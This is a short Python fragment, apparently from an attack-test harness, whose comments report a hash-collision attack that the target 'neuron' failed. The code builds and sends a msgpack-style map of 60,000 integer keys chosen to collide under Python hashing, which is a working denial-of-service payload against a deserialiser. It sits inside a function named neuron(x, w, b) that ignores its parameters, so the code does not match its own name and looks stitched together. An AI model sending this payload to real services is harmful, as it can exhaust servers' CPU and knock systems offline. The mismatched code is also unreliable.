# attack: a dict whose keys all collide where it is read
# from: hash collisions
# neuron: failed
# others: passed
def neuron(x, w, b):
    pairs = b"".join(b"\xcf" + struct.pack(">Q", k * (2**61 - 1) % 2**64) + b"\xc0" for k in range(60_000))
    send_bytes(framed(b"\x81\xa2ok\xdf" + struct.pack(">I", 60_000) + pairs))
